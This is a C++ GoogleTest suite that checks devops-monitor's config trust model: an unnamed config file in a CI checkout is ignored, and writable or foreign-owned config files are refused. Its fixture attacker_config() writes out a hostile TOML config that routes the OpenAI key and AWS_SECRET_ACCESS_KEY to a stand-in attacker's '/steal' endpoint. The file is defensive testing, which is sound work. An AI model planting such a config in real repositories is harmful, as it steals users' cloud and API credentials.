// The trust model through the real binary: a file the user did not name or install can never
// change where a secret is sent, and a config file others could write is refused.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>

#include "support/monitor_world.hpp"
#include "support/must_run.hpp"

namespace devops_monitor::testing {
namespace {

const std::string kOpenAiCanary = "CANARYopenaiZq8Xw3Vr7Ty6Ui5Op4As2Df1Gh9Jk";
const std::string kAwsCanary = "CANARYawsWs7Ed4Rf5Tg6Yh7Uj8Ik9Ol0Pq1Aw2Se3";

/// The file a pull request's author would put in the checkout: every key to their server,
/// with the opt-in for a non-key variable when `opt_in` (they write the file, after all).
std::string attacker_config(const FakeProviderServer& attacker, bool opt_in) {
  const std::string url = attacker.url("/steal");
  return "[providers.openai]\ntest_endpoint = \"" + url +
         "\"\n\n"
         "[providers.exfil]\nname = \"Looks harmless\"\nenv_var = \"AWS_SECRET_ACCESS_KEY\"\n" +
         (opt_in ? "trust_env_var = true\n" : "") + "test_endpoint = \"" + url +
         "\"\nauth = \"bearer\"\npriority = 1\n";
}

void expect_no_canary(const std::string& where, const std::string& text) {
  for (const std::string& canary : {kOpenAiCanary, kAwsCanary}) {
    EXPECT_EQ(text.find(canary), std::string::npos) << canary << " in " << where;
    EXPECT_EQ(text.find(canary.substr(canary.size() - 12)), std::string::npos)
        << "part of " << canary << " in " << where;
  }
}

void expect_no_canary_in(const RunResult& run, const std::filesystem::path& report_dir) {
  expect_no_canary("stdout", run.out);
  expect_no_canary("stderr", run.err);
  std::error_code ec;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(report_dir, ec)) {
    if (entry.is_regular_file()) expect_no_canary(entry.path().string(), read_text(entry.path()));
  }
}

/// The common flags of a check, without --config.
std::vector<std::string> check_args(const MonitorWorld& world) {
  return {"--check",      "--json",
          "--procfs",     world.procfs.root().string(),
          "--report-dir", world.report_dir.string(),
          "--disk",       world.dir.path().string(),
          "--cpu-window", "200ms",
          "--timeout",    "5s"};
}

// ---- the attack -------------------------------------------------------------------------------

TEST(ConfigAttack, ConfigInTheWorkingDirectoryCannotSendKeysAnywhere) {
  for (const bool opt_in : {false, true}) {
    SCOPED_TRACE(opt_in ? "with trust_env_var = true" : "without trust_env_var");
    MonitorWorld world;  // its fake server stands in for the real providers
    FakeProviderServer attacker;
    attacker.on("/steal", {.status = 200});
    TempDir checkout;  // a pull request's checkout: the working directory of the CI job
    write_text(checkout / "devops-monitor.toml", attacker_config(attacker, opt_in));

    // The job's own, installed, config routes the providers to the stand-in server, so the
    // check really runs and would send the keys wherever a config file said.
    const std::filesystem::path installed = world.dir / "xdg" / "devops-monitor" / "config.toml";
    std::filesystem::create_directories(installed.parent_path());
    std::filesystem::copy_file(world.config_file, installed);

    RunOptions options;
    options.args = check_args(world);
    options.env = world.env;
    options.env["OPENAI_API_KEY"] = kOpenAiCanary;
    options.env["AWS_SECRET_ACCESS_KEY"] = kAwsCanary;
    options.cwd = checkout.path();
    const RunResult run = run_monitor(options, world.report_dir);

    EXPECT_TRUE(attacker.requests().empty()) << "the file in the checkout sent a request";
    EXPECT_LE(run.exit_code, 2) << run.err;
    EXPECT_EQ(world.server.request_count(world.route("openai")), 1u) << run.err;
    for (const RecordedRequest& request : world.server.requests()) {
      for (const auto& [name, value] : request.headers) {
        EXPECT_EQ(value.find(kAwsCanary), std::string::npos) << name;
      }
    }
    expect_no_canary_in(run, world.report_dir);
    const nlohmann::json report = stdout_json(run);
    for (const auto& key : report.value("api_keys", nlohmann::json::array())) {
      EXPECT_NE(key["id"], "exfil");
    }
    EXPECT_EQ(run.err,
              "devops-monitor: warning: ignoring ./devops-monitor.toml: a config file in the "
              "working directory is read only when named; to use it, run with --config "
              "./devops-monitor.toml\n");
  }
}

TEST(ConfigAttack, WithNoConfigInstalledTheFileIsStillIgnored) {
  MonitorWorld world;
  FakeProviderServer attacker;
  attacker.on("/steal", {.status = 200});
  TempDir checkout;
  write_text(checkout / "devops-monitor.toml", attacker_config(attacker, false));
  RunOptions options;
  options.args = check_args(world);
  options.env = world.env;
  options.env["AWS_SECRET_ACCESS_KEY"] = kAwsCanary;  // no provider key: nothing goes out
  options.cwd = checkout.path();
  const RunResult run = run_monitor(options, world.report_dir);
  EXPECT_EQ(run.exit_code, 1) << run.err << "\nno keys: warning";
  EXPECT_TRUE(attacker.requests().empty());
  EXPECT_TRUE(world.server.requests().empty());
  expect_no_canary_in(run, world.report_dir);
}

TEST(ConfigAttack, NamedFileMayNotSendANonKeyVariableWithoutOptingIn) {
  MonitorWorld world;
  FakeProviderServer attacker;
  attacker.on("/steal", {.status = 200});
  write_text(world.config_file, attacker_config(attacker, false));
  world.env["OPENAI_API_KEY"] = kOpenAiCanary;
  world.env["AWS_SECRET_ACCESS_KEY"] = kAwsCanary;
  const RunResult run = world.check({"--check", "--json"});

  EXPECT_EQ(run.exit_code, 3);
  EXPECT_EQ(run.out, "");
  EXPECT_EQ(std::count(run.err.begin(), run.err.end(), '\n'), 1) << run.err;
  EXPECT_NE(run.err.find("devops-monitor: invalid config: providers.exfil.env_var is not an API "
                         "key variable"),
            std::string::npos)
      << run.err;
  EXPECT_NE(run.err.find("add trust_env_var = true to [providers.exfil] (" +
                         world.config_file.string() + ":6:11)"),
            std::string::npos)
      << run.err;
  EXPECT_EQ(run.err.find("AWS_SECRET"), std::string::npos) << "the value is never quoted";
  EXPECT_TRUE(attacker.requests().empty());
  expect_no_canary_in(run, world.report_dir);
}

TEST(ConfigAttack, TrustEnvVarInAFileYouNamedSendsTheVariable) {
  // The opt-in is the user's decision about a file they named: it works as written.
  MonitorWorld world;
  world.server.on("/mine/v1/models", {.status = 200});
  world.write_config("", {});
  std::string toml = read_text(world.config_file);
  toml +=
      "[providers.mine]\nenv_var = \"MY_GATEWAY_TOKEN\"\ntrust_env_var = true\n"
      "test_endpoint = \"" +
      world.server.url("/mine/v1/models") + "\"\n";
  write_text(world.config_file, toml);
  world.env["MY_GATEWAY_TOKEN"] = "CANARY-gateway";
  const RunResult run = world.check({"--check", "--json"});
  EXPECT_LE(run.exit_code, 2) << run.err;
  ASSERT_EQ(world.server.request_count("/mine/v1/models"), 1u) << run.err;
  EXPECT_EQ(world.server.requests().at(0).headers.find("Authorization")->second,
            "Bearer CANARY-gateway");
}

// ---- permissions --------------------------------------------------------------------------

class ConfigPermissions : public ::testing::Test {
 protected:
  void SetUp() override {
    if (::geteuid() != 0) DEVOPS_MONITOR_SKIP_OR_FAIL("needs root to chown test files");
    world.set_key("openai", kOpenAiCanary);  // a refused file must not let it go anywhere
  }

  /// Runs with `file` as --config: refused, with one line naming the file and `reason`.
  void expect_refused(const std::filesystem::path& file, const std::string& reason) {
    const std::size_t requests = world.server.requests().size();
    const RunResult run = world.check({"--check", "--json", "--config", file.string()});
    EXPECT_EQ(run.exit_code, 3);
    EXPECT_EQ(run.out, "");
    EXPECT_EQ(run.err,
              "devops-monitor: untrusted config file: " + reason + " (" + file.string() + ")\n");
    EXPECT_EQ(world.server.requests().size(), requests) << "a refused file sent a request";
  }

  void expect_accepted(const std::filesystem::path& file) {
    const std::size_t requests = world.server.request_count(world.route("openai"));
    const RunResult run =
        world.check({"--check", "--json", "--no-save", "--config", file.string()});
    EXPECT_LE(run.exit_code, 2) << run.err;
    EXPECT_EQ(run.err, "");
    EXPECT_EQ(world.server.request_count(world.route("openai")), requests + 1) << run.err;
  }

  /// The world's config file, copied into `dir` (created with `mode`).
  std::filesystem::path config_in(const std::filesystem::path& dir, mode_t mode) {
    std::filesystem::create_directories(dir);
    ::chmod(dir.c_str(), mode);
    std::filesystem::copy_file(world.config_file, dir / "config.toml");
    ::chmod((dir / "config.toml").c_str(), 0644);
    return dir / "config.toml";
  }

  MonitorWorld world;
};

TEST_F(ConfigPermissions, WorldWritableFileIsRefused) {
  ::chmod(world.config_file.c_str(), 0666);
  expect_refused(world.config_file, "it is world-writable (mode 0666)");
}

TEST_F(ConfigPermissions, GroupWritableFileIsRefused) {
  ::chmod(world.config_file.c_str(), 0664);
  expect_refused(world.config_file, "it is group-writable (mode 0664)");
}

TEST_F(ConfigPermissions, FileOwnedByAnotherUserIsRefused) {
  ASSERT_EQ(::chown(world.config_file.c_str(), 4242, 4242), 0);
  expect_refused(world.config_file, "it is owned by uid 4242, not by you (uid 0) or root");
}

TEST_F(ConfigPermissions, WorldWritableDirectoryWithoutTheStickyBitIsRefused) {
  const std::filesystem::path open = world.dir / "open";
  const std::filesystem::path file = config_in(open, 0777);
  expect_refused(file, "its directory " + open.string() +
                           " is world-writable without the sticky bit (mode 0777)");
}

TEST_F(ConfigPermissions, OwnFileInAStickyDirectoryIsAccepted) {
  // /tmp itself is such a directory; this one is a sticky subdirectory of the test's own.
  expect_accepted(config_in(world.dir / "sticky", 01777));
}

TEST_F(ConfigPermissions, RootOwnedFileIsAcceptedWhenRunningAsNobody) {
  world.as_nobody = true;
  expect_accepted(world.config_file);
}

TEST_F(ConfigPermissions, NobodysOwnFileIsAcceptedButNotSomeoneElses) {
  world.as_nobody = true;
  ASSERT_EQ(::chown(world.config_file.c_str(), 65534, 65534), 0);
  expect_accepted(world.config_file);
  ASSERT_EQ(::chown(world.config_file.c_str(), 4242, 4242), 0);
  expect_refused(world.config_file, "it is owned by uid 4242, not by you (uid 65534) or root");
}

TEST_F(ConfigPermissions, InstalledFileIsCheckedToo) {
  const std::filesystem::path installed = config_in(world.dir / "xdg" / "devops-monitor", 0755);
  ::chmod(installed.c_str(), 0646);
  RunOptions options;
  options.args = check_args(world);
  options.env = world.env;
  options.cwd = world.dir / "xdg";
  const RunResult run = run_monitor(options, world.report_dir);
  EXPECT_EQ(run.exit_code, 3);
  EXPECT_EQ(run.err, "devops-monitor: untrusted config file: it is world-writable (mode 0646) (" +
                         installed.string() + ")\n");
  EXPECT_TRUE(world.server.requests().empty());
}

TEST_F(ConfigPermissions, EnvironmentVariableNamesTheConfigFile) {
  RunOptions options;
  options.args = check_args(world);
  options.env = world.env;
  options.env["DEVOPS_MONITOR_CONFIG"] = world.config_file.string();
  options.cwd = world.dir.path();
  const RunResult run = run_monitor(options, world.report_dir);
  EXPECT_LE(run.exit_code, 2) << run.err;
  EXPECT_EQ(world.server.request_count(world.route("openai")), 1u) << run.err;
  EXPECT_EQ(run.err, "");

  ::chmod(world.config_file.c_str(), 0666);
  const RunResult refused = run_monitor(options, world.report_dir);
  EXPECT_EQ(refused.exit_code, 3);
  EXPECT_NE(refused.err.find("untrusted config file"), std::string::npos) << refused.err;
}

TEST_F(ConfigPermissions, UnsearchableWorkingDirectoryIsNoCrash) {
  // Looking for ./.env there fails with EACCES: once an uncaught exception, now a warning.
  const std::filesystem::path locked = world.dir / "locked";
  std::filesystem::create_directories(locked);
  ::chmod(locked.c_str(), 0700);
  RunOptions options;
  options.args = check_args(world);
  options.args.insert(options.args.end(), {"--no-save", "--config", world.config_file.string()});
  options.env = world.env;
  options.cwd = locked;
  options.as_nobody = true;
  const RunResult run = run_monitor(options);
  EXPECT_EQ(run.signal, 0) << run.err;
  EXPECT_LE(run.exit_code, 2) << run.err;
  EXPECT_EQ(run.err,
            "devops-monitor: warning: cannot tell whether .env exists: Permission denied; keys "
            "come from the environment only\n");
  EXPECT_EQ(world.server.request_count(world.route("openai")), 1u);
}

}  // namespace
}  // namespace devops_monitor::testing
